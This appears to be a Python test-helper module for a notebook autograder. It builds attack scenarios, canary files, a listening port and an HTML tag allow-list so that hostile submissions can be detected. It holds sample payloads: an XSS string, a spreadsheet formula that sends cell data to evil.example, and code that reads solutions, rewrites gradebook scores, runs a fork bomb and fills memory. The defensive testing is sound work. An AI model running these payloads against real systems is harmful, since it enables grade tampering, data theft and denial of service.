"""What attacks are made of: a scene to act in, canaries that would tell if anything ran, and a page as it is parsed."""

import copy
import hashlib
import json
import socket
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from html.parser import HTMLParser
from pathlib import Path

from grading_kit import MACHINE, STAMP

HARM = '<img src=x onerror="window.HARMED = 1"><script>window.HARMED = 1</script><style>body{display:none}</style>'
FORMULA = '=HYPERLINK("http://evil.example/?"&A1, "click")'
WEAK = "AI work"
FILLER = f"{WEAK}\nThese words say nothing at all, and nobody learns from them.\nNor does anybody from these."
# What a page may hold; the rest of HTML acts, loads or hides.
_TAGS = {
    "html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "h3", "p", "small", "strong", "span", "code",
    "table", "thead", "tbody", "tr", "th", "td", "section", "ul", "li", "pre", "blockquote", "em",
}  # fmt: skip
_ATTRIBUTES = {"lang", "charset", "name", "content", "http-equiv", "scope", "class", "role", "aria-hidden", "aria-live"}


@dataclass(frozen=True, kw_only=True)
class Scene:
    """Where an attacker hands in: the exercise as it was released, a canary file and a port that would tell."""

    exercise: str
    root: Path
    blank: Mapping
    canary: Path
    port: int

    @property
    def code(self) -> str:
        """Code that would read the solution, change the gradebook, call out, fork, fill memory and never end."""
        return (
            f"open({str(self.canary)!r}, 'a').write('ran')\n"
            f"import os, socket, sqlite3\nsocket.create_connection(('127.0.0.1', {self.port}))\n"
            f"print(open({str(self.root / 'solutions' / self.exercise)!r} + '/{self.exercise}.ipynb').read())\n"
            f"sqlite3.connect({str(self.root / 'gradebook.db')!r}).execute('UPD' 'ATE grade SET manual_score = 99')\n"
            "while True:\n    os.fork()\n    held = bytearray(10**9)\n"
        )

    def notebook(self, text: str = WEAK) -> dict:
        """The exercise with *text* under every label, which earns little."""
        return answered(self.blank, lambda _: text)

    def cells(self, notebook: Mapping, *, grade: bool) -> list[dict]:
        """The test cells, or the answer cells, of a notebook."""
        return [cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade") is grade]


@dataclass(frozen=True, kw_only=True)
class Attack:
    """One way to hand in: *act* fills the folder; the report then says *says*, or nothing where words are words."""

    name: str
    act: Callable[[Scene, Path], None]
    says: str = ""  # the code of the problem that the report names
    words_only: bool = False  # nothing is odd but what is written in an answer: the rubric judges that
    exercise: str = "constraint-summary"
    unreadable: bool = False
    stronger: bool = False  # its answers are not the weak ones
    posix: bool = False


def answered(blank: Mapping, text_of: Callable[[str], str]) -> dict:
    """Fill every label of the released answer cells."""
    done = copy.deepcopy(dict(blank))
    for cell in done["cells"]:
        own = cell["metadata"].get("nbgrader", {})
        if own.get("solution"):
            source = "".join(cell["source"])
            labelled = [line for line in source.splitlines() if line.rstrip().endswith(":")]
            text = text_of(own["grade_id"])
            body = "\n".join(f"{label} {text}" for label in labelled) or text
            cell["source"] = f"%%answer {own['grade_id']}\n{body}"
    return done


def put(folder: Path, exercise: str, notebook: Mapping | bytes | None, machine: bytes | None = None) -> None:
    """Write a submission as collecting leaves it; the machine is the model's own, captured at another time."""
    (folder / "evidence").mkdir(parents=True, exist_ok=True)
    (folder / "timestamp.txt").write_text(STAMP, encoding="ascii")
    (folder / "evidence/inventory.json").write_bytes(own_machine(folder.parent.name) if machine is None else machine)
    if notebook is not None:
        content = notebook if isinstance(notebook, bytes) else json.dumps(notebook).encode()
        (folder / f"{exercise}.ipynb").write_bytes(content)


def own_machine(student: str) -> bytes:
    """An inventory of the learner's own: no two are the same file."""
    document = json.loads(MACHINE.read_text(encoding="utf-8"))
    seconds = int.from_bytes(hashlib.sha256(student.encode()).digest()[:4]) % (28 * 86_400)
    document["captured_at"] = (datetime(2026, 10, 1, tzinfo=UTC) + timedelta(seconds=seconds)).isoformat()
    return json.dumps(document).encode()


@contextmanager
def listening() -> Iterator[socket.socket]:
    """A port that notes whether anything called."""
    with socket.socket() as server:
        server.bind(("127.0.0.1", 0))
        server.listen()
        server.setblocking(False)
        yield server


def was_called(server: socket.socket) -> bool:
    """Tell whether anything connected."""
    try:
        server.accept()
    except BlockingIOError:
        return False
    return True


class Page(HTMLParser):
    """A page as a browser reads it: what could act in it is what counts."""

    def __init__(self, source: str) -> None:
        super().__init__()
        self.faults: list[str] = []
        self.text: list[str] = []
        self.feed(source)

    def handle_starttag(self, tag, attrs):
        """Note elements and attributes that no page of ours has."""
        self.faults += [f"<{tag}>"] if tag not in _TAGS else []
        self.faults += [f"<{tag} {name}>" for name, _ in attrs if name not in _ATTRIBUTES]

    def handle_data(self, data):
        """Keep what is there to read."""
        self.text.append(data)


def live_parts(notebook: Mapping, master: Mapping) -> list[str]:
    """Name what could act in a graded copy: Markdown of a learner's, raw cells, attachments, outputs of theirs."""
    released = {"".join(cell["source"]) for cell in master["cells"]}
    faults = []
    for place, cell in enumerate(notebook["cells"]):
        source, drawn = "".join(cell["source"]), str(cell.get("id", "")).startswith("drawn-")
        if cell["cell_type"] != "code" and source not in released and not drawn:
            faults.append(f"cell {place} is {cell['cell_type']}")
        faults += [f"cell {place} has attachments"] if "attachments" in cell else []
        faults += [f"cell {place} has {key}" for key in cell["metadata"] if key not in _CELL_METADATA]
        for output in cell.get("outputs", ()):
            faults += [f"cell {place}: {fault}" for fault in Page(output["data"].get("text/html", "")).faults]
            faults += [f"cell {place}: {kind}" for kind in output["data"] if kind not in ("text/html", "text/plain")]
    faults += [f"metadata {key}" for key in notebook["metadata"] if key not in _METADATA]
    return faults


_CELL_METADATA = {"nbgrader", "workstation", "editable", "deletable"}
_METADATA = {"kernelspec", "language_info", "workstation"}


def everything(root: Path, besides: str) -> dict[str, bytes]:
    """Every file of a course that is not the attacker's, and not the database, whose rows are compared."""
    kept = {}
    for path in sorted(root.rglob("*")):
        inside = path.relative_to(root).parts
        if besides in inside or inside[0].startswith(("gradebook", "backup", ".")) or path.is_symlink():
            continue
        if path.is_file():
            kept["/".join(inside)] = path.read_bytes()
    return kept
